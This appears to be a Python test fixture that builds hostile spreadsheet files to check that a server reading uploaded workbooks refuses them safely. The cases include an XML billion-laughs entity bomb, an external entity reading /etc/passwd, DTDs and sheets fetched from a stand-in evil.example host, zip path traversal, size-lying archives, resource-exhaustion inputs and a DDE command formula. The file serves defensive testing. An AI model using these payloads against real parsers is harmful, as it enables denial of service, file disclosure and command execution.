"""Workbooks that would fill, hold up or read out a server which opened them as they are."""

import io
import zipfile

from tests.test_opened import PARTS

SHEET = "xl/worksheets/a.xml"
BOOK, RELATIONS = "xl/workbook.xml", "xl/_rels/workbook.xml.rels"
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "哈哈哈哈哈哈哈哈哈哈">'
    + "".join(f'<!ENTITY {chr(98 + i)} "{f"&{chr(97 + i)};" * 10}">' for i in range(9))
    + "]>"
)
OUTSIDE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY j SYSTEM "file:///etc/passwd">]>'
FETCHED = '<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://evil.example/x.dtd">'


def book(sheet="", kind=zipfile.ZIP_DEFLATED, whole="", **parts):
    """A workbook of one sheet with this data, or of this whole part; other parts as given, None for none."""
    body = {SHEET: whole or f"<worksheet><sheetData>{sheet}</sheetData></worksheet>"}
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", kind, compresslevel=1) as archive:
        for name, text in {**PARTS, **body, **parts}.items():
            if text is not None:
                archive.writestr(name, text)
    return held.getvalue()


def declared(head, name):
    """A workbook one of whose parts begins with declarations, and mentions what they declare."""
    body = {**PARTS, SHEET: "<worksheet><sheetData><row><c><v>1</v></c></row></sheetData></worksheet>"}[name]
    said = head + body.replace(">", ">&j;", 1)
    return book(whole=said) if name == SHEET else book(**{name: said})


def named(count, target="worksheets/a.xml"):
    """So many sheets, all of one part."""
    sheets = "".join(f'<sheet name="表{n}" sheetId="{n + 1}" r:id="r1"/>' for n in range(count))
    relations = PARTS[RELATIONS].replace("worksheets/a.xml", target)
    return {BOOK: f'<workbook xmlns:r="r"><sheets>{sheets}</sheets></workbook>', RELATIONS: relations}


def encrypted(data):
    """The same archive, whose members say that they are encrypted."""
    found = bytearray(data)
    for sign, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = 0
        while (start := found.find(sign, start)) >= 0:
            found[start + at] |= 1
            start += 4
    return bytes(found)


def lying(data):
    """The same archive, whose members say that they unpack to a hundred bytes."""
    found, start = bytearray(data), 0
    while (start := found.find(b"PK\x01\x02", start)) >= 0:
        found[start + 24 : start + 28] = (100).to_bytes(4, "little")
        start += 4
    return bytes(found)


def _rows(count, cell):
    return "".join(f'<row r="{row}">{cell}</row>' for row in range(1, count + 1))


ONE = '<row r="1"><c r="A1"><v>1</v></c></row>'
WIDE = '<c r="GQ1"><v>1</v></c>'
MERGED = f"<worksheet><sheetData>{ONE}</sheetData><mergeCells>{{}}</mergeCells></worksheet>"
# by name: the file, and whether it is read after all
HOSTILE = {
    **{f"laughs in {name}": (lambda name=name: declared(LAUGHS, name), False) for name in (SHEET, BOOK, RELATIONS)},
    "laughs in texts": (lambda: declared(LAUGHS, "xl/strings.xml"), False),
    "laughs in styles": (lambda: declared(LAUGHS, "xl/styles.xml"), False),
    "a file named as an entity": (lambda: declared(OUTSIDE, "xl/strings.xml"), False),
    "declarations to be fetched": (lambda: declared(FETCHED, SHEET), False),
    "declarations in UTF-16": (
        lambda: book(**{"xl/strings.xml": (LAUGHS + PARTS["xl/strings.xml"]).encode("utf-16")}),
        False,
    ),
    "a hundred megabytes of blanks": (lambda: book(" " * 100_000_000), False),
    "members that lie about their size": (lambda: lying(book(_rows(100_000, "<c><v>1</v></c>"))), False),
    "encrypted members": (lambda: encrypted(book(ONE)), False),
    "another compression": (lambda: book(ONE, zipfile.ZIP_BZIP2), False),
    "cut off": (lambda: book(ONE)[:-300], False),
    "a million formatted rows": (lambda: book(ONE + '<row s="1" customFormat="1"/>' * 1_000_000), True),
    "three million formatted cells": (lambda: book(ONE + '<row><c s="1"/><c s="1"/><c s="1"/></row>' * 900_000), True),
    "a cell in the last corner": (lambda: book('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'), False),
    "a cell in the last row": (lambda: book(ONE + '<row r="1048576"><c r="A1048576"><v>1</v></c></row>'), False),
    "cells in a wide square": (lambda: book(_rows(24_000, "<c><v>1</v></c>") + '<row r="1">' + WIDE + "</row>"), False),
    "a cell beyond the last corner": (lambda: book('<row><c r="ZZZ9999999"><v>1</v></c></row>'), False),
    "millions of cells": (lambda: book("<row>" + "<c><v>1</v></c>" * 3_000_000 + "</row>"), False),
    "a sheet merged whole": (lambda: book(whole=MERGED.format('<mergeCell ref="A1:XFD1048576"/>')), False),
    "very many merged areas": (lambda: book(whole=MERGED.format('<mergeCell ref="A1:B2"/>' * 1_000_000)), False),
    "areas merged upside down": (lambda: book(whole=MERGED.format('<mergeCell ref="B9:A1"/>')), False),
    "thousands of sheets": (lambda: book(ONE, **named(5000)), False),
    "many sheets of one large part": (lambda: book(" " * 5_000_000 + ONE, **named(60)), False),
    "a sheet that is the workbook": (lambda: book(ONE, **named(1, "workbook.xml")), True),
    "a sheet outside the archive": (lambda: book(ONE, **named(1, "../../../../etc/passwd")), True),
    "members outside the archive": (lambda: book(ONE, **{"../../../../tmp/traversal-of-a-test": "x"}), True),
    "a sheet on another machine": (
        lambda: book(
            ONE,
            **{RELATIONS: PARTS[RELATIONS].replace('Target="w', 'TargetMode="External" Target="http://evil.example/w')},
        ),
        True,
    ),
    "very many texts": (lambda: book(ONE, **{"xl/strings.xml": f"<sst>{'<si/>' * 5_000_000}</sst>"}), False),
    "a text without end": (lambda: book('<row><c t="inlineStr"><is><t>' + "示" * 10**6 + "</t></is></c></row>"), False),
    "a number without end": (lambda: book('<row><c r="A1"><v>' + "9" * 10**6 + "</v></c></row>"), False),
    "very many styles": (lambda: book(ONE, **{"xl/styles.xml": "<cellXfs>" + "<xf/>" * 10**6 + "</cellXfs>"}), True),
    "elements without end": (lambda: book("<row>" * 3_000_000), False),
    "very many attributes": (lambda: book("<row " + " ".join(f'a{n}="1"' for n in range(500_000)) + "/>" + ONE), False),
    "a remark without end": (lambda: book(f"<!-- {'x' * 20_000_000} -->" + ONE), False),
    "very many members": (lambda: book(ONE, **{f"x{n}": "" for n in range(30_000)}), False),
    "an unknown encoding": (lambda: book(whole='<?xml version="1.0" encoding="no-such"?><worksheet/>'), False),
    "no sheets": (lambda: book(ONE, **named(0)), True),
    "no parts": (lambda: book(**{BOOK: None, RELATIONS: None}), False),
    "a page dressed as a workbook": (lambda: b"<html><table><tr><td>=cmd|'/c calc'!A1</td></tr></table></html>", False),
    "an old workbook": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(5000), False),
    "nothing": (lambda: b"", False),
}  # fmt: skip
